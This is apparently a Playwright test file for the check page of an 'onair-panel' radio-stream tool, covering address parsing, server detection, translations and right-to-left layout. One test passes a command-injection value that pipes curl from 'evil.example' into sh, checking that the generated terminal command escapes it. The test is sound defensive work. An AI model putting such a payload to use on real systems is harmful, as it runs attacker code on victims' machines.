/** The most important results of the built check page on a real panel. `test/diagnostics/page/page.nightly.test.ts` has more. */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { openBrowser } from '../kit/browser.js';
import { startBroken, type BrokenServer } from '../kit/broken-servers.js';
import { linesOf, objectionsOf, untilChecked } from '../kit/check-page.js';
import { startIcecast } from '../kit/servers/icecast.js';
import { listen } from '../kit/servers/listen.js';
import { startShoutcast } from '../kit/servers/shoutcast.js';
import { openLivePanel, type OpenedPanel } from '../kit/open-panel.js';
import type { Browser, Page } from 'playwright-core';

describe('the check page', () => {
  let browser: Browser;
  let panel: OpenedPanel;
  let website: BrokenServer;
  let page: Page;
  before(async () => {
    browser = await openBrowser();
    panel = await openLivePanel({ dist: 'dist/onair-panel' });
    website = await startBroken('website');
    page = await browser.newPage({ locale: 'en-GB' });
  });
  after(async () => {
    await browser.close();
    await Promise.all([panel, website].map((each) => each.close()));
  });

  const CHECK = () => `${panel.url}/check/`;

  it('accepts an address without a scheme', async () => {
    await page.goto(CHECK());
    await page.getByLabel('Address of your panel or server').fill(website.host);
    await page.keyboard.press('Enter');
    const address = `http://${website.host}`;
    assert.equal(await untilChecked(page), `Tags can’t show server 1 at ${address}.`);
    assert.match((await linesOf(page)).Station!, /returned a web page/);
    assert.match(page.url(), /panel=127\.0\.0\.1/);
    await page.goto(`${CHECK()}?panel=ftp%3A%2F%2Fx&lang=de`);
    await page
      .getByRole('alert')
      .filter({ hasText: /„ftp:\/\/x“ ist keine gültige Adresse/ })
      .waitFor();
  });

  it('links a successful result to the builder', async () => {
    await page.goto(`${CHECK()}?panel=${panel.url}&site=http`);
    assert.equal(await untilChecked(page), `No problems at ${panel.url}.`);
    await page.getByRole('link', { name: 'Get the code for your site' }).click();
    await page.waitForURL(`${panel.url}/builder/?**`);
    await page.locator('#address-state', { hasText: 'Connected.' }).waitFor();
    assert.equal(await page.locator('[name=address]').inputValue(), panel.url);
    await page.getByRole('link', { name: 'Check this server' }).click();
    await untilChecked(page);
    // Without a good result, there is no link.
    await page.goto(`${CHECK()}?panel=${panel.url}&server=99&site=http`);
    await untilChecked(page);
    assert.equal(await page.getByRole('link', { name: 'Get the code for your site' }).count(), 0);
  });

  it('detects Icecast and Shoutcast servers', async () => {
    for (const [starting, kind, cors] of [
      [startIcecast(), 'Icecast', 'OK This page can read the server’s responses.'],
      [startShoutcast(), 'Shoutcast', 'Note Pages on other sites can’t fetch the server’s responses'],
    ] as const) {
      const server = await starting;
      try {
        server.play({ artist: 'Björk', title: 'Jóga' });
        await page.goto(`${CHECK()}?panel=${server.url}/stream.html&site=http`);
        // On an http site, the only problem is the missing stream.
        assert.equal(await untilChecked(page), `Problems at ${server.url}/stream.html: streams.`);
        const lines = await linesOf(page);
        assert.equal(lines.Server, `OK Found ${kind} at ${server.url}. Onair works with it directly.`);
        assert.equal(lines['On air'], 'OK Björk – Jóga');
        assert.ok(lines.Attributes!.includes(`source="${kind.toLowerCase()}"`));
        assert.ok(lines.CORS!.startsWith(cors), lines.CORS);
        assert.deepEqual(await objectionsOf(page), []);
      } finally {
        await server.close();
      }
    }
  });

  it('detects JSON that is served at every path', async () => {
    const headers = { 'Content-Type': 'application/json', 'Access-Control-Allow-Origin': '*' };
    const body = JSON.stringify({ current: { song: 'Glass', artist: 'Ada Winter' } });
    const server = await listen(() => ({ headers, body }));
    try {
      const query = new URLSearchParams({ panel: `${server.url}/now.php?id=1`, site: 'http' });
      await page.goto(`${CHECK()}?${String(query)}`);
      assert.equal(
        await untilChecked(page),
        `Found JSON at ${server.url}/now.php?id=1. To show it, add source="json" to the tags.`,
      );
      assert.match((await linesOf(page)).Station!, /^Note /);
      assert.equal(
        await page.getByLabel('Address of your panel or server').inputValue(),
        `${server.url}/now.php?id=1`,
      );
      await page.getByRole('link', { name: 'Get the code for your site' }).click();
      await page.waitForURL(({ searchParams }) => /current\.song/.test(searchParams.get('map') ?? ''));
    } finally {
      await server.close();
    }
  });

  it('copies a collapsed report', async () => {
    const sent = "https://x/;curl$IFS'evil.example'|sh";
    await page.goto(`${CHECK()}?panel=${encodeURIComponent(sent)}`);
    await untilChecked(page);
    assert.equal(
      await page.locator('.terminal code').textContent(),
      'onair-panel check https://x/%3Bcurl%24IFS%27evil.example%27%7Csh --server 1',
    );
    const copied = page.locator('.copy [role=status]', { hasText: 'Copied' }).waitFor();
    await page.getByRole('button', { name: 'Copy report' }).click();
    await copied;
  });

  it('loads the chosen language', async () => {
    const french = await browser.newPage({ locale: 'fr-CA' });
    const requested: string[] = [];
    french.on('request', (request) => requested.push(new URL(request.url()).pathname));
    await french.goto(`${CHECK()}?panel=http://${website.host}`);
    assert.equal(
      await untilChecked(french),
      `Les balises ne peuvent pas montrer le serveur 1 de http://${website.host}.`,
    );
    assert.match((await linesOf(french)).Station!, /^Problème .*a donné une page web/);
    assert.equal(await french.locator('html').getAttribute('lang'), 'fr');
    assert.deepEqual(await objectionsOf(french), []);
    assert.deepEqual(
      requested.filter((path) => path.includes('owner')),
      ['/parts/owner-fr.js'],
    );
    await french.getByLabel('Langue').selectOption('pl');
    await french.waitForURL(/lang=pl/);
    assert.match(await untilChecked(french), /^Znaczniki nie mogą pokazać/);
    await french.goto(`${panel.url}/check.html?lang=tr&panel=http://${website.host}`);
    await untilChecked(french);
    assert.ok('İstasyon' in (await linesOf(french)));
    await french.close();
  });

  it('is laid out right to left in Arabic', async () => {
    const arabic = await browser.newPage({ viewport: { width: 280, height: 800 } });
    await arabic.goto(`${CHECK()}?panel=${panel.url}&lang=ar`);
    assert.match(await untilChecked(arabic), /المحتوى المختلط\.$/);
    const directions = await arabic.evaluate(() =>
      ['body', '.lines li', '#panel', 'pre', 'code'].map(
        (each) => getComputedStyle(document.querySelector(each)!).direction,
      ),
    );
    assert.deepEqual(directions, ['rtl', 'rtl', 'ltr', 'ltr', 'ltr']);
    assert.equal(await arabic.evaluate('document.documentElement.scrollWidth'), 280);
    assert.deepEqual(await objectionsOf(arabic), []);
    await arabic.close();
  });

  it('falls back to English without language files', async () => {
    const copy = await browser.newPage({ locale: 'ru-RU' });
    await copy.route('**/parts/*', (route) => route.fulfill({ status: 404 }));
    await copy.goto(CHECK());
    await copy.locator('#lang option:checked', { hasText: 'English' }).waitFor({ state: 'attached' });
    assert.equal(await copy.locator('html').getAttribute('lang'), 'en');
    assert.ok(await copy.getByLabel('Address of your panel or server').isVisible());
    await copy.close();
  });

  it('lists the servers for an unknown server number', async () => {
    await page.goto(`${CHECK()}?panel=${panel.url}&server=99`);
    await untilChecked(page);
    await page.getByRole('link', { name: /^2 / }).click();
    await page.waitForURL(/server=2/);
    assert.match(await untilChecked(page), /^Problems at/);
    assert.equal(await page.locator('nav [aria-current=true]').textContent(), '2 Nachtfähre');
  });
});
